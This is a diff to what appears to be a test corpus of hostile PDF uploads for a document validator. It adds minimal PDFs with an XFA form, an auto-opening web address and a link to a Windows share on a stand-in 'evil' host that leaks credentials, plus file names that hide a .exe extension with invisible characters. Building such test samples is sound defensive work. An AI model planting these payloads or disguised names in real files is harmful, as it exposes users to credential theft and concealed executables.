@@ -117,6 +117,36 @@ def page_action_pdf() -> bytes:
     )
 
 
+def xfa_pdf() -> bytes:
+    """An XML form (XFA): its scripts run in the reader when the file opens."""
+    return raw_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>",
+        PAGES,
+        PAGE % b"",
+        b"<< /Length 0 >>\nstream\n\nendstream",
+    )
+
+
+def open_uri_pdf() -> bytes:
+    """Opening the file sends the reader to a web address."""
+    return raw_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://x.example) >> >>",
+        PAGES,
+        PAGE % b"",
+    )
+
+
+def remote_goto_pdf() -> bytes:
+    """A link to a file on a Windows share: following it sends the user's credentials."""
+    return raw_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        PAGES,
+        PAGE % b"/Annots [4 0 R]",
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
+        b"/A << /S /GoToR /F (\\\\evil\\share\\x.pdf) /D [0 /Fit] >> >>",
+    )
+
+
 def embedded_file_pdf() -> bytes:
     from pypdf import PdfWriter
 
@@ -215,6 +245,9 @@ CORPUS = [
     Hostile("pdf-escaped-javascript", "policy.pdf", escaped_javascript_pdf, "contains JavaScript"),
     Hostile("pdf-page-action", "policy.pdf", page_action_pdf, "contains JavaScript"),
     Hostile("pdf-embedded-file", "policy.pdf", embedded_file_pdf, "carries embedded files"),
+    Hostile("pdf-xfa-form", "policy.pdf", xfa_pdf, "contains JavaScript"),
+    Hostile("pdf-opens-a-web-address", "policy.pdf", open_uri_pdf, "contains JavaScript"),
+    Hostile("pdf-link-to-a-share", "policy.pdf", remote_goto_pdf, "contains JavaScript"),
     Hostile(
         "pdf-attachment-annotation",
         "policy.pdf",
@@ -244,6 +277,21 @@ CORPUS = [
     Hostile(
         "right-to-left-name",
         "invoice\u202efdp.exe.pdf",
+        blank_pdf,
+        "invisible or direction-changing characters",
+        through_form="hides a program's extension (.exe)",
+    ),
+    # A word joiner and a soft hyphen show nothing: policy.ex\u2060e.pdf reads policy.exe.pdf.
+    Hostile(
+        "word-joiner-name",
+        "policy.ex\u2060e.pdf",
+        blank_pdf,
+        "invisible or direction-changing characters",
+        through_form="hides a program's extension (.exe)",
+    ),
+    Hostile(
+        "soft-hyphen-name",
+        "policy.ex\u00ade.pdf",
         blank_pdf,
         "invisible or direction-changing characters",
         through_form="hides a program's extension (.exe)",
